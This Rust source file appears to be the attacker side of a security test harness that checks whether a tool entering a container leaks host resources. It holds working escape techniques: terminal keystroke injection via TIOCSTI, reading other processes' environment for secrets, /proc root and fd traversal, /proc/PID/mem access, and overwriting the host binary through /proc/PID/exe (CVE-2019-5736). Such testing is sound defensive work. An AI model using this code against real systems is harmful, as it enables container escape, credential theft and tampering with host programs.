//! What waits inside for an administrator who enters: programs in the places
//! of the guest's own, and processes that watch who comes in.

use std::ffi::CString;
use std::fs;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use crate::descend::{exists, open, processes};
use crate::outcome::{Attempt, Failure, Prepare, number, refused, untried};
use crate::sys::Arg::{N, Text};
use crate::sys::{self};

/// Is this program run in the place of another?
pub fn stands_in_for_a_shell(words: &[String]) -> bool {
    let name = words.first().map_or("", |word| word.rsplit('/').next().unwrap_or(word));
    name != "attacker"
}

/// Looks at what a session was given: its descriptors, terminal, current
/// directory and capabilities. Whatever is the host's is a way out.
pub fn look() -> Attempt {
    let mut found = Vec::new();
    for entry in fs::read_dir("/proc/self/fd").prepare("reading /proc/self/fd")?.flatten() {
        let to = fs::read_link(entry.path()).unwrap_or_default();
        let fd: i32 = entry.file_name().to_string_lossy().parse().unwrap_or(0);
        let own = to.starts_with(format!("/proc/{}/fd", std::process::id()));
        if fd > 2 && !own {
            found.push(format!("descriptor {fd} is {to:?}"));
        }
        // A terminal of the guest's own lies in its own devpts.
        let name = to.to_string_lossy().into_owned();
        let terminal = name.starts_with("/dev/pts/") || name.starts_with("/dev/tty");
        if terminal
            && fs::metadata(&to).map(|m| m.rdev()).ok()
                != fs::metadata(entry.path()).map(|m| m.rdev()).ok()
        {
            found.push(format!("descriptor {fd} is a terminal of another /dev: {to:?}"));
        }
    }
    let cwd = std::env::current_dir();
    if cwd.as_ref().is_ok_and(|cwd| cwd.starts_with("(unreachable)")) || cwd.is_err() {
        found.push(format!("the current directory is {cwd:?}"));
    }
    for (name, value) in std::env::vars_os() {
        if name.to_string_lossy().contains("SECRET") {
            found.push(format!("the environment has {name:?}={value:?}"));
        }
    }
    let own = capabilities("self")?;
    let init = capabilities("1").unwrap_or(own);
    if own & !init != 0 {
        found.push(format!("capabilities {own:x}, more than PID 1's {init:x}"));
    }
    record(&format!("session: {found:?}"));
    if found.is_empty() { refused("nothing of the host's") } else { Ok(found.join("; ")) }
}

/// The bounding set, or for another process what is permitted.
fn capabilities(pid: &str) -> Result<u64, Failure> {
    let status = fs::read_to_string(format!("/proc/{pid}/status"))?;
    let title = if pid == "1" { "CapBnd:" } else { "CapPrm:" };
    let line = status.lines().find_map(|line| line.strip_prefix(title));
    let bits = line.and_then(|text| u64::from_str_radix(text.trim(), 16).ok());
    bits.map_or_else(|| untried("there are no capabilities in status"), Ok)
}

/// Leaves a word for the test: a shell's exit code may be lost.
fn record(text: &str) {
    let _ = fs::write("/tmp/attacker-was-here", text);
}

/// Types into its terminal what whoever reads from it next will take as
/// typed by a person.
pub fn type_in(words: &str) -> Attempt {
    for byte in words.bytes().chain([b'\n']) {
        let text = CString::new([byte]).unwrap_or_default();
        sys::call(libc::SYS_ioctl, &[N(0), N(libc::TIOCSTI as i64), Text(&text)])?;
    }
    Ok(format!("typed {words:?}"))
}

/// Leaves a process behind that says something on the terminal after its
/// session has ended.
pub fn linger(text: &str) -> Attempt {
    if sys::fork().prepare("forking")? != 0 {
        return Ok("left a process behind".to_owned());
    }
    let _ = sys::call(libc::SYS_setsid, &[]);
    for _ in 0..50 {
        std::thread::sleep(Duration::from_millis(20));
        // Not println: it would give up at the first error.
        let text = CString::new(format!("{text}\n")).unwrap_or_default();
        let length = text.as_bytes().len() as i64;
        let _ = sys::call(libc::SYS_write, &[N(1), Text(&text), N(length)]);
    }
    sys::exit(0)
}

/// Watches /proc for everybody who comes in, and takes what it can: the
/// program's file, memory, environment, descriptors, root and current
/// directory; or of these, with `kind` "program", only the first. Ends when
/// `/tmp/ambush-over` appears.
pub fn ambush(kind: &str, path: &str, secret: &str) -> Attempt {
    let mut seen = 0_u64;
    let mut kept: Vec<i32> = Vec::new();
    let own = std::process::id().to_string();
    let deadline = Instant::now() + Duration::from_secs(60);
    let before: Vec<PathBuf> = processes()?;
    record("ambush: ready");
    while !Path::new("/tmp/ambush-over").exists() && Instant::now() < deadline {
        for process in processes()? {
            if before.contains(&process) || process.ends_with(&own) {
                continue;
            }
            seen += 1;
            if kind != "program"
                && let Some(way) = take(&process, path, secret)
            {
                return Ok(way);
            }
            // For later, when the program doesn't run any more: /proc/PID/exe
            // can be written then (CVE-2019-5736).
            if kept.len() < 2000
                && let Ok(fd) = open(&process.join("exe"), libc::O_PATH)
            {
                kept.push(fd);
            }
        }
        for fd in &kept {
            let again = PathBuf::from(format!("/proc/self/fd/{fd}"));
            // A file of the guest's own can be written by its root.
            let shown = fs::read_link(&again).unwrap_or_default();
            if fs::metadata(&shown).map(|m| (m.dev(), m.ino())).ok()
                == fs::metadata(&again).map(|m| (m.dev(), m.ino())).ok()
            {
                continue;
            }
            if let Ok(file) = open(&again, libc::O_WRONLY) {
                let _ = sys::call(libc::SYS_ftruncate, &[N(file.into()), N(0)]);
                return Ok(format!("overwrote the program {shown:?}"));
            }
        }
    }
    if seen == 0 {
        return untried("nobody came in");
    }
    refused(format!("looked at {seen} processes"))
}

fn take(process: &Path, path: &str, secret: &str) -> Option<String> {
    let text = process.to_string_lossy();
    let environment = fs::read(process.join("environ")).unwrap_or_default();
    if String::from_utf8_lossy(&environment).contains(secret) {
        return Some(format!("{text}/environ has the secret"));
    }
    for place in ["root", "cwd", "fd/0", "fd/3", "fd/4", "fd/5"] {
        for ups in ["", "../../../../../../../.."] {
            let way = format!("{text}/{place}/{ups}/{path}");
            if exists(&way).is_ok() {
                return Some(format!("through {way}"));
            }
        }
    }
    let permitted = capabilities(process.file_name()?.to_str()?).ok()?;
    let bounding = capabilities("1").ok()?;
    // What has more than PID 1 must not be open to ptrace(2).
    if permitted & !bounding != 0 && open(&process.join("mem"), libc::O_RDWR).is_ok() {
        return Some(format!("{text}/mem of a process with capabilities {permitted:x}"));
    }
    None
}

/// How not to enter a guest: this program's own file becomes one that the
/// guest can reach. The control for the ambush.
pub fn enter_naively(pid: &str) -> Attempt {
    let pidfd = sys::call(libc::SYS_pidfd_open, &[N(number(pid)?), N(0)]).prepare("pidfd_open")?;
    let kinds = libc::CLONE_NEWNS | libc::CLONE_NEWPID;
    sys::call(libc::SYS_setns, &[N(pidfd), N(kinds.into())]).prepare("setns")?;
    let stay = Duration::from_millis(500);
    if sys::fork().prepare("forking")? == 0 {
        std::thread::sleep(stay);
        sys::exit(0);
    }
    std::thread::sleep(stay);
    Ok("has been inside".to_owned())
}

/// Which user is this? Success is to be root.
pub fn whoami() -> Attempt {
    let status = fs::read_to_string("/proc/self/status").prepare("reading status")?;
    let line =
        |title: &str| status.lines().find(|line| line.starts_with(title)).unwrap_or("").to_owned();
    let (uid, permitted) = (line("Uid:"), line("CapEff:"));
    let effective = uid.split_whitespace().nth(2) == Some("0");
    if effective || !permitted.ends_with("0000000000000000") {
        return Ok(format!("{uid} {permitted}"));
    }
    refused(format!("{uid} {permitted}"))
}
